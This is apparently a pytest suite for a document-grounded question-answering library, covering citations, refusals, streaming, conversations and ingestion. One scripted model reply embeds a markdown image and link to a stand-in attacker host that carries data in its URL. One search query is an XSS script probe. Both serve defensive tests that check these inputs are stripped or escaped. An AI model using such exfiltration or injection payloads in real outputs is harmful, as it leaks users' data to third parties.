"""From a question to an answer: the one stream of events, its citations, and what happens when a part fails."""

from __future__ import annotations

from contextlib import aclosing
from itertools import count
from pathlib import Path
from uuid import uuid4

import httpx
import pytest
from facade_support import HANDBOOK, Scripted

from aura import (
    Aura,
    Cited,
    Delta,
    Failed,
    Final,
    InvalidRequest,
    NotFound,
    Refusal,
    Sources,
    Unavailable,
    Workspace,
)
from aura.identity import ConversationId

pytestmark = pytest.mark.asyncio(loop_scope="session")

QUESTION = "Within how many days of delivery can an unopened product be returned?"


async def test_an_answer_is_cited_word_for_word(acme: Workspace) -> None:
    answer = await acme.ask(QUESTION)

    [citation] = answer.citations
    text = await acme.documents.text(citation.document_id, version=citation.version)
    assert "47 days" in answer.text
    assert not answer.refused
    assert citation.document == "handbook.md"
    assert text[citation.start : citation.end] == citation.quote
    assert "47 days" in citation.quote
    assert (answer.model, answer.cost_usd) == ("extractive", 0.0)
    assert answer.timings.total_seconds >= answer.timings.retrieval_seconds > 0


async def test_what_no_document_supports_is_refused(acme: Workspace) -> None:
    answer = await acme.ask("What is the boiling point of tungsten hexafluoride?")

    assert answer.refused
    assert answer.citations == ()


async def test_a_tenant_without_documents_refuses_without_asking_the_model(
    scripted: tuple[Workspace, Scripted], aura: Aura
) -> None:
    empty = await aura.tenants.create(
        organization_name="Empty",
        subdomain=f"empty-{uuid4().hex[:8]}",
        admin_email="e@empty.test",
        password="correct horse battery staple",
    )

    answer = await empty.ask(QUESTION)

    assert answer.refused
    assert answer.timings.first_token_seconds is None


async def test_the_stream_is_sources_then_text_and_proofs_then_the_end(acme: Workspace) -> None:
    events = [event async for event in acme.stream(QUESTION)]

    assert isinstance(events[0], Sources)
    assert isinstance(events[-1], Final)
    assert {type(event) for event in events[1:-1]} == {Delta, Cited}
    assert [event.seq for event in events] == list(range(len(events)))
    assert len({event.response_id for event in events}) == 1
    assert "".join(event.text for event in events if isinstance(event, Delta)) == events[-1].answer.text
    assert tuple(event.citation for event in events if isinstance(event, Cited)) == events[-1].answer.citations


async def test_a_marker_that_proves_nothing_is_removed_and_the_rest_stands(
    scripted: tuple[Workspace, Scripted],
) -> None:
    acme, model = scripted
    model.says("Unopened products can be returned within 47 days of delivery [1]. ", "They are blue [1]. Or [9] red.")

    answer = await acme.ask(QUESTION)

    assert answer.text.count("[1]") == 1
    assert "[9]" not in answer.text
    assert len(answer.citations) == 1


async def test_an_answer_without_any_support_becomes_a_refusal(scripted: tuple[Workspace, Scripted]) -> None:
    acme, model = scripted
    model.says("The refund window is ", "90 days [1].")

    events = [event async for event in acme.stream(QUESTION)]

    assert isinstance(events[-1], Refusal)
    assert "90" not in events[-1].answer.text


async def test_passages_are_quoted_to_the_model_outside_of_the_system_role(
    scripted: tuple[Workspace, Scripted],
) -> None:
    acme, model = scripted
    model.says("47 days [1]")

    await acme.ask(QUESTION)

    for message in model.asked[0]:
        assert ("47 days" in (message.content or "")) == (message.role == "user")


async def test_images_and_links_do_not_leave_in_an_answer(scripted: tuple[Workspace, Scripted]) -> None:
    acme, model = scripted
    model.says("Within 47 days of delivery [1] ![x](https://evil.example/?q=47) see [here](https://evil.example).")

    answer = await acme.ask(QUESTION)

    assert "evil.example" not in answer.text


@pytest.mark.parametrize(
    ("error", "kind"),
    [(httpx.ConnectError("no route"), "Unavailable"), (RuntimeError("broken"), "BackendError")],
)
async def test_a_failing_model_ends_the_stream_with_an_error(
    scripted: tuple[Workspace, Scripted], error: Exception, kind: str
) -> None:
    acme, model = scripted
    model.says("Within ", error)

    events = [event async for event in acme.stream(QUESTION)]

    assert isinstance(events[-1], Failed)
    assert events[-1].kind == kind
    assert [event.seq for event in events] == list(range(len(events)))


async def test_ask_raises_what_the_stream_reports(scripted: tuple[Workspace, Scripted]) -> None:
    acme, model = scripted
    model.says(httpx.ConnectError("no route"))

    with pytest.raises(Unavailable):
        await acme.ask(QUESTION)


async def test_closing_the_stream_closes_the_model_and_keeps_what_was_said(
    scripted: tuple[Workspace, Scripted],
) -> None:
    acme, model = scripted
    conversation = await acme.conversations.start()
    model.says("Within 47 days of delivery ", 30.0, "never")

    async with aclosing(acme.stream(QUESTION, conversation=conversation)) as events:
        async for event in events:
            if isinstance(event, Delta):
                break

    assert model.closed == 1
    asked, said = await acme.conversations.recent(conversation)
    assert asked.text == QUESTION
    assert said.text.strip()
    assert "never" not in said.text


async def test_a_follow_up_is_understood_from_its_conversation(acme: Workspace) -> None:
    conversation = await acme.conversations.start()
    await acme.ask("Who leads the returns desk?", conversation=conversation)

    answer = await acme.ask("And at which extension?", conversation=conversation)
    alone = await acme.ask("And at which extension?", conversation=conversation, use_memory=False)

    assert "returns desk" in answer.question
    assert "5521" in answer.text
    assert alone.question == "And at which extension?"


async def test_a_conversation_keeps_every_turn_with_its_citations(acme: Workspace) -> None:
    conversation = await acme.conversations.start()
    answer = await acme.ask(QUESTION, conversation=conversation)

    asked, said = await acme.conversations.recent(conversation)
    [listed] = (await acme.conversations.list()).items

    assert (asked.role, asked.text) == ("user", QUESTION)
    assert (said.role, said.text, said.citations) == ("assistant", answer.text, answer.citations)
    assert said.id == answer.message_id
    assert listed.title == QUESTION


async def test_a_temporary_question_leaves_nothing(acme: Workspace) -> None:
    conversation = await acme.conversations.start()

    answer = await acme.ask(QUESTION, conversation=conversation, temporary=True)

    assert answer.message_id is None
    assert await acme.conversations.recent(conversation) == []


async def test_an_unknown_conversation_is_not_found(acme: Workspace) -> None:
    with pytest.raises(NotFound):
        await acme.ask(QUESTION, conversation=ConversationId(uuid4()))


@pytest.mark.parametrize("message", ["", "  \n", "x" * 100_001])
async def test_an_unusable_message_is_refused_with_its_field(acme: Workspace, message: str) -> None:
    with pytest.raises(InvalidRequest) as refused:
        await acme.ask(message)

    assert refused.value.field == "message"


async def test_without_knowledge_the_model_answers_alone(scripted: tuple[Workspace, Scripted]) -> None:
    acme, model = scripted
    model.says("Good morning!")

    answer = await acme.ask("Good morning", search_knowledge=False)

    assert answer.text == "Good morning!"
    assert not answer.refused
    assert answer.sources == ()
    assert all("47 days" not in (message.content or "") for message in model.asked[0])


async def test_a_question_can_be_kept_to_one_collection(acme: Workspace) -> None:
    await acme.collections.create("policies")

    answer = await acme.ask(QUESTION, collection="policies")

    assert answer.refused
    with pytest.raises(NotFound):
        await acme.ask(QUESTION, collection="no such collection")


async def test_identical_passages_of_two_documents_take_one_place(acme: Workspace) -> None:
    async for _ in acme.documents.ingest(HANDBOOK.encode() + b"\n", filename="copy.md"):
        pass

    found = await acme.search(QUESTION)
    sources = (await acme.ask(QUESTION)).sources

    assert len({p.document_id for p in found}) == 2
    assert len({p.text for p in sources}) == len(sources)


async def test_a_deleted_document_answers_no_more(acme: Workspace) -> None:
    [document] = (await acme.documents.list()).items

    receipt = await acme.documents.delete(document.id)

    assert receipt.documents == 1
    assert receipt.chunks == receipt.vectors == document.chunks > 0
    assert (await acme.ask(QUESTION)).refused
    assert await acme.search(QUESTION) == []
    with pytest.raises(NotFound):
        await acme.documents.text(document.id)


async def test_llama_index_can_use_all_of_it(acme: Workspace) -> None:
    engine = acme.query_engine()
    nodes = await acme.index.as_retriever(similarity_top_k=2).aretrieve(QUESTION)
    response = await engine.aquery(QUESTION)

    assert "47 days" in nodes[0].text
    assert "47 days" in str(response)
    assert response.source_nodes[0].node.metadata["filename"] == "handbook.md"


async def test_everything_prints_well(acme: Workspace) -> None:
    answer = await acme.ask(QUESTION)
    [passage, *_] = await acme.search("<script>alert(1)</script> refund")

    assert "handbook.md" in str(answer)
    assert "<q>" in answer._repr_html_()
    assert "handbook.md" in passage._repr_html_()
    assert "password" not in repr(acme)


async def test_the_source_can_be_a_file_a_folder_bytes_or_a_stream(acme: Workspace, tmp_path: Path) -> None:
    numbers = count()

    def content() -> bytes:
        return f"# Note\n\nThe secret number of note {next(numbers)} is here.".encode()

    (tmp_path / "folder" / "sub").mkdir(parents=True)
    (tmp_path / "folder" / "sub" / "a.md").write_bytes(content())
    (tmp_path / "folder" / ".hidden.md").write_bytes(content())
    (tmp_path / "b.md").write_bytes(content())

    async def stream() -> object:
        yield content()

    done = []
    for source, name in (
        (tmp_path / "folder", None),
        (str(tmp_path / "b.md"), None),
        (content(), "c.md"),
        (stream(), "d.md"),
        ((tmp_path / "b.md").open("rb"), "e.md"),
    ):
        async for progress in acme.documents.ingest(source, filename=name):  # type: ignore[arg-type]
            if progress.stage.final:
                done.append((progress.filename, progress.stage.value, progress.duplicate))

    assert done == [
        ("sub/a.md", "ready", False),
        ("b.md", "ready", False),
        ("c.md", "ready", False),
        ("d.md", "ready", False),
        ("e.md", "ready", True),
    ]
